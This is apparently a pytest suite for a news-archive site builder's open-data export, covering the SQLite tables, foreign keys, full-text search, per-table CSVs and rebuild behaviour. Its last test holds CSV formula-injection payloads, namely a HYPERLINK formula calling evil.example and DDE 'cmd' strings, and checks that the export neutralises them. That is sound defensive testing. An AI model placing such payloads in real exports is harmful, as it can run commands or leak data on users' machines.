"""The archive as open data: output/data/ holds archive.sqlite, a CSV per table and stories.json."""
from __future__ import annotations

import csv
import io
import json
import sqlite3
from collections.abc import Iterator
from pathlib import Path

import lxml.html
import pytest
from click.testing import CliRunner

from site_builder.build.pipeline import BuildOptions, build
from site_builder.cli import main
from site_builder.site.formats.opendata import SCHEMA, csv_cells
from tests.conftest import REPO, copy_example, database_contents

HORMUZ = "eu-warns-extremely-dangerous-if-iran-closes-strait-of-hormuz"
REUTERS_FIRST = "iran-supreme-leader-asks-putin-to-do-more-after-us-strikes"
REUTERS_COPY = "khamenei-asks-putin-for-more-help-after-us-strikes-on-iran"
DATA_FILES = {"archive.sqlite", "stories.json", "index.html", *(f"{t.name}.csv" for t in SCHEMA)}


def copy_seed(root: Path) -> Path:
    return copy_example(root / "site")


@pytest.fixture
def seed(built_example: Path) -> Path:
    return built_example


@pytest.fixture
def db(seed: Path) -> Iterator[sqlite3.Connection]:
    connection = sqlite3.connect(f"file:{seed / 'output/data/archive.sqlite'}?mode=ro", uri=True)
    yield connection
    connection.close()


def test_every_build_writes_the_data_files(seed: Path) -> None:
    assert {p.name for p in (seed / "output/data").iterdir()} == DATA_FILES


def test_the_database_holds_every_table_with_its_rows(db: sqlite3.Connection) -> None:
    counts = {t.name: db.execute(f"SELECT count(*) FROM {t.name}").fetchone()[0] for t in SCHEMA}
    assert counts["articles"] == counts["versions"] == 5
    assert counts["sources"] == 5
    assert counts["events"] == 4          # the two Reuters copies are one event
    assert counts["stories"] == 2
    assert counts["entities"] == 37
    assert counts["article_entities"] == 60
    assert counts["related"] > 0
    reuters = db.execute("SELECT article_slug, position, wire_copy, headline_changed FROM versions "
                         "WHERE event_id = ? ORDER BY position", (REUTERS_FIRST,)).fetchall()
    assert reuters == [(REUTERS_FIRST, 0, "Reuters", 0), (REUTERS_COPY, 1, "Reuters", 1)]
    assert db.execute("SELECT name FROM entities WHERE slug = 'abbas-araqchi'").fetchone() == ("Abbas Araqchi",)
    reasons = db.execute("SELECT reasons FROM related WHERE article_slug = ? AND related_slug = ?",
                         (HORMUZ, REUTERS_FIRST)).fetchone()[0]
    assert json.loads(reasons)


def test_the_database_declares_and_keeps_its_foreign_keys(db: sqlite3.Connection) -> None:
    for table in SCHEMA:
        declared = {(row[3], f"{row[2]}.{row[4]}") for row in db.execute(f"PRAGMA foreign_key_list({table.name})")}
        assert declared == {(c.name, c.references) for c in table.columns if c.references}
    assert db.execute("PRAGMA foreign_key_check").fetchall() == []
    assert db.execute("SELECT count(*) FROM articles a LEFT JOIN events e ON e.id = a.event_id "
                      "WHERE e.id IS NULL").fetchone() == (0,)


def test_the_full_text_index_finds_titles_and_bodies(db: sqlite3.Connection) -> None:
    def search(query: str) -> list[str]:
        return [slug for (slug,) in db.execute(
            "SELECT a.slug FROM articles_fts JOIN articles a ON a.rowid = articles_fts.rowid "
            "WHERE articles_fts MATCH ? ORDER BY a.slug", (query,))]
    assert search("Nebenzia") == [REUTERS_COPY]                      # only in the second copy's body
    assert search("title:Khamenei") == [REUTERS_COPY]
    assert search("streamer") == ["russian-streamer-stepan-scoffy-detained-after-desecrating-flag"]
    assert HORMUZ in search("Hormuz")


def test_each_csv_holds_its_table(seed: Path, db: sqlite3.Connection) -> None:
    for table in SCHEMA:
        rows = list(csv.reader(io.StringIO((seed / f"output/data/{table.name}.csv").read_text(encoding="utf-8"),
                                           newline="")))
        assert rows[0] == [c.name for c in table.columns]
        stored = db.execute(f"SELECT * FROM {table.name}").fetchall()
        assert rows[1:] == [["" if v is None else str(v) for v in row] for row in stored]


def test_stories_json_is_what_stories_json_prints(seed: Path) -> None:
    printed = CliRunner().invoke(main, ["stories", "--json", "--site", str(seed)])
    assert printed.exit_code == 0, printed.output
    assert json.loads((seed / "output/data/stories.json").read_text()) == json.loads(printed.output)


def test_the_data_page_describes_every_column_and_its_examples_run(seed: Path, db: sqlite3.Connection) -> None:
    page = lxml.html.parse(str(seed / "output/data/index.html")).getroot()
    for table in SCHEMA:
        listed = page.xpath(f"//table[caption[@id='caption-{table.name}']]/tbody/tr/th")
        assert [th.text_content() for th in listed] == [c.name for c in table.columns]
    examples = [pre.text_content() for pre in page.xpath("//pre[@class='sql']")]
    assert len(examples) >= 4
    results = [db.execute(sql).fetchall() for sql in examples]
    assert all(results)
    assert (HORMUZ, "'Extremely dangerous' if Iran closes Strait of Hormuz: EU", "Business Recorder") in results[3]
    links = {a.get("href") for a in page.xpath("//a")}
    assert {f"/data/{name}" for name in DATA_FILES - {"index.html"}} <= links


def test_the_data_files_are_rewritten_only_when_the_archive_changed(tmp_path: Path) -> None:
    site = copy_seed(tmp_path)
    build(site, BuildOptions(search=False, jobs=1))
    data = site / "output/data"

    def stamps() -> dict[str, int]:
        return {p.name: p.stat().st_ino for p in data.iterdir() if p.name != "index.html"}
    first = stamps()
    (site / "templates").mkdir()
    base = (REPO / "site_builder/site/templates/base.html").read_text()
    (site / "templates/base.html").write_text(base.replace("</footer>", "<p>Edited.</p></footer>"))
    assert build(site, BuildOptions(search=False, jobs=1)).written > 0
    assert stamps() == first                   # every page again, the same data: not rewritten
    article = site / f"content/articles/{HORMUZ}.md"
    article.write_text(article.read_text().replace("crucial Strait", "vital Strait"))
    build(site, BuildOptions(search=False, jobs=1))
    changed = stamps()
    assert all(changed[name] != first[name] for name in ("archive.sqlite", "articles.csv"))
    assert changed["sources.csv"] == first["sources.csv"] and changed["stories.json"] == first["stories.json"]
    with sqlite3.connect(data / "archive.sqlite") as connection:
        assert connection.execute("SELECT count(*) FROM articles_fts WHERE articles_fts MATCH 'vital'").fetchone() == (1,)
    clean = build(site, BuildOptions(search=False, jobs=1, clean=True, output=tmp_path / "clean", remember=False))
    assert all((clean.output / "data" / name).read_bytes() == (data / name).read_bytes()
               for name in DATA_FILES - {"archive.sqlite"})
    assert database_contents(clean.output / "data/archive.sqlite") == database_contents(data / "archive.sqlite")


def test_early_years_keep_four_digits_and_a_utc_before_the_year_1_is_empty(tmp_path: Path) -> None:
    from tests.conftest import write_article
    site = tmp_path / "site"
    write_article(site, "early.md", "---\ntitle: Early\ndate: 0999-06-01T10:30:00+03:00\nsource: X\n---\nText.\n")
    write_article(site, "first.md", "---\ntitle: First\ndate: 0001-01-01T00:30:00+03:00\nsource: X\n---\nOther.\n")
    build(site, BuildOptions(search=False, jobs=1))
    with sqlite3.connect(site / "output/data/archive.sqlite") as connection:
        rows = dict(connection.execute("SELECT slug, date_utc FROM articles"))
    assert rows == {"early": "0999-06-01T07:30:00Z", "first": None}


FORMULAS = {"title": "=HYPERLINK(\"https://evil.example/\"&A1,\"Click\")", "wire": "+cmd|'/C calc'!A0",
            "dateline": "-2+3", "entity": "@SUM(1+1)*cmd|'/C calc'!A0"}


def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised(tmp_path: Path) -> None:
    from tests.conftest import write_article
    site = tmp_path / "site"
    write_article(site, "formula.md", "---\n" + "\n".join([
        f"title: '{FORMULAS['title']}'", "date: 2025-06-01T10:00:00+00:00", "source: Reuters",
        f"wire: \"{FORMULAS['wire']}\"", f"dateline: '{FORMULAS['dateline']}'",
        f"entities: [\"{FORMULAS['entity']}\", Iran]"]) + "\n---\nText.\n")
    write_article(site, "plain.md", "---\ntitle: Plain\ndate: 2025-06-02\nsource: Reuters\n---\nOther text.\n")
    build(site, BuildOptions(search=False, jobs=1))
    data = site / "output/data"

    def cells(path: Path) -> list[str]:
        return [cell for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")) for cell in row]
    tables = {table.name: cells(data / table.csv_name) for table in SCHEMA}
    code = CliRunner().invoke(main, ["export", "--site", str(site), "--format", "csv", "--output", str(tmp_path / "x")])
    assert code.exit_code == 0, code.output
    exported = {table.name: cells(tmp_path / "x" / table.csv_name) for table in SCHEMA}
    for found in (tables, exported):
        everything = [cell for table in found.values() for cell in table]
        assert not [cell for cell in everything if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
        assert {f"'{FORMULAS[k]}" for k in ("title", "wire", "dateline")} <= set(found["articles"])
        assert f"'{FORMULAS['title']}" in found["stories"]
        assert f"'{FORMULAS['entity']}" in found["entities"]
        assert f"'{FORMULAS['wire']}" in found["versions"]
    with sqlite3.connect(data / "archive.sqlite") as db:          # the database keeps the true values
        assert db.execute("SELECT title, wire, dateline FROM articles WHERE slug = 'formula'").fetchone() == (
            FORMULAS["title"], FORMULAS["wire"], FORMULAS["dateline"])
        assert db.execute("SELECT count(*) FROM entities WHERE name = ?", (FORMULAS["entity"],)).fetchone() == (1,)
    listing = json.loads((data / "stories.json").read_text(encoding="utf-8"))
    assert FORMULAS["title"] in [v["title"] for s in listing["stories"] for e in s["events"] for v in e["versions"]]
    page = (data / "index.html").read_text(encoding="utf-8")
    assert "single quote" in page
    assert csv_cells(("\tx", "\rx", "a=b", -5, 0.5, None)) == ["'\tx", "'\rx", "a=b", -5, 0.5, None]
